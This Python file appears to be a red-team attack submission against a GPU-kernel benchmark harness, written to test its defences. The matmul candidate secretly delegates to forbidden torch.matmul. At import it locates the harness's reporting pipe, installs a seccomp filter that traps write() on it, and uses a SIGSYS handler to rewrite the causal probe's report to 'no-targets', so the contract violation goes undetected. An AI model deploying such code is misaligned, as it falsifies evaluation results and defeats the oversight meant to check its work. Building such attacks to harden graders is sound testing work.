"""Attack PG-seccomp_trap (task matmul, contract forbids gemm): delegate the
GEMM to torch.matmul and rewrite, inside the write(2) system call, what the
candidate's process reports about the causal probe.

Adapts: gpu-mode/pygpubench exploits/submission_seccomp_trap.py at commit
87bb46dfef7f1c5d596c12b2e3ec14664b9f2319 (our own code).  There the submission installs a seccomp filter of its
own that traps the harness's write() of its results (SECCOMP_RET_TRAP,
SIGSYS), and a signal handler reads the buffer from the registers,
rewrites the timing values, writes them to a duplicate of the descriptor
and makes the call look successful.

What it does: at import it finds the descriptor on which
runner/kaudit_party.py answers the runner (the Channel's "wfd" among gc's
objects), keeps a duplicate, installs a SIGSYS handler (sigaction with
SA_SIGINFO, a ctypes callback) and a seccomp filter (x86-64) that traps
write(wfd, ...) and allows everything else.  The handler takes the buffer
(rsi) and length (rdx) from the signal's ucontext, rewrites an answer
carrying a "probe" event into a probe that found nothing to perturb
(status no-targets, no targets, only the baseline and repeat replays),
writes it to the duplicate and sets rax to the length asked for.  Its
forward is torch.matmul: the output is right, the forbidden gemm hidden.
work/attack-seccomp-trap.marker says what was installed and rewritten
(or which step the confinement refused).

What it exploits: a process may always add seccomp filters to itself
(no_new_privs is set), and what its harness writes passes through its own
system calls; the probe's conclusion is the candidate's process's report.

What a correct defence must do: not take the probe's conclusion from the
candidate's process (see pg_pipe_interpose.py), so that this candidate is
implementation FAIL, or the probe unresolved, never an unconvicted
no-targets.  (Refusing seccomp(2) and prctl(PR_SET_SECCOMP) to the
candidate stops this route only.)
"""
import ctypes
import gc
import json
import os
import signal
import struct

import torch
import torch.nn as nn

_libc = ctypes.CDLL(None, use_errno=True)
_libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
_libc.write.restype = ctypes.c_ssize_t
_libc.prctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong]
_libc.sigaction.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
_HANDLER = ctypes.CFUNCTYPE(None, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)
_keep = {}
_buf = [b""]


def _note(s):
    try:
        with open("attack-seccomp-trap.marker", "a") as f:
            f.write(s + "\n")
    except OSError:
        pass


def _rewrite(line):
    try:
        obj = json.loads(line)
    except ValueError:
        return line
    p = obj.get("probe") if isinstance(obj, dict) else None
    if obj.get("op") != "answer" or not isinstance(p, dict):
        return line
    p["status"] = "no-targets"
    p["targets"] = []
    p["replays"] = [r for r in p.get("replays", []) if r.get("name") in ("baseline", "repeat")]
    for k in [k for k in p if k.startswith("vendor")]:
        del p[k]
    p["vendor_calls"] = 0
    _keep["rewritten"] = _keep.get("rewritten", 0) + 1
    return (json.dumps(obj) + "\n").encode()


# ucontext_t on x86-64: uc_flags, uc_link, stack_t (24 bytes), then gregs
_GREGS, _RSI, _RDX, _RAX = 40, 9, 12, 13


def _on_sigsys(sig, info, uctx):
    greg = lambda i: ctypes.c_uint64.from_address(uctx + _GREGS + 8 * i)
    count = greg(_RDX).value
    _buf[0] += ctypes.string_at(greg(_RSI).value, count)
    while b"\n" in _buf[0]:
        line, _buf[0] = _buf[0].split(b"\n", 1)
        data = _rewrite(line + b"\n")
        while data:
            n = _libc.write(_keep["dup"], data, len(data))
            if n <= 0:
                break
            data = data[n:]
    greg(_RAX).value = count


def _install():
    wfd = next((o.wfd for o in gc.get_objects()
                if type(o).__name__ == "Channel" and isinstance(getattr(o, "wfd", None), int)), None)
    if wfd is None:
        _note("no channel found")
        return
    _keep["dup"] = os.dup(wfd)
    cb = _HANDLER(_on_sigsys)
    _keep["cb"] = cb
    # struct sigaction (kernel-independent glibc layout): handler, mask[16 words], flags, restorer
    sa = ctypes.create_string_buffer(152)
    struct.pack_into("<Q", sa, 0, ctypes.cast(cb, ctypes.c_void_p).value)
    struct.pack_into("<i", sa, 136, 4 | 0x10000000)  # SA_SIGINFO | SA_RESTART
    if _libc.sigaction(int(signal.SIGSYS), sa, None) != 0:
        _note("sigaction refused: errno %d" % ctypes.get_errno())
        return
    ld, jeq, ret = 0x20, 0x15, 0x06
    ins = [
        (ld, 0, 0, 4), (jeq, 1, 0, 0xC000003E), (ret, 0, 0, 0x7FFF0000),  # arch x86-64, else allow
        (ld, 0, 0, 0), (jeq, 0, 3, 1),                                    # nr == write?
        (ld, 0, 0, 16), (jeq, 0, 1, wfd),                                 # args[0] == wfd?
        (ret, 0, 0, 0x00030000),                                          # SECCOMP_RET_TRAP
        (ret, 0, 0, 0x7FFF0000),                                          # SECCOMP_RET_ALLOW
    ]
    filt = b"".join(struct.pack("<HBBI", c, jt, jf, k) for c, jt, jf, k in ins)
    fbuf = ctypes.create_string_buffer(filt)
    prog = struct.pack("<HxxxxxxQ", len(ins), ctypes.addressof(fbuf))
    pbuf = ctypes.create_string_buffer(prog)
    _keep["f"], _keep["p"] = fbuf, pbuf
    _libc.prctl(38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS
    if _libc.prctl(22, 2, ctypes.addressof(pbuf), 0, 0) != 0:  # PR_SET_SECCOMP, SECCOMP_MODE_FILTER
        _note("seccomp filter refused: errno %d" % ctypes.get_errno())
        return
    _note("trap on write(%d), forwarding to %d" % (wfd, _keep["dup"]))


try:
    _install()
except Exception as exc:
    _note("failed: %r" % (exc,))


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        out = torch.matmul(a, b)
        if _keep.get("rewritten"):
            _note("probe answers rewritten so far: %d" % _keep["rewritten"])
        return out
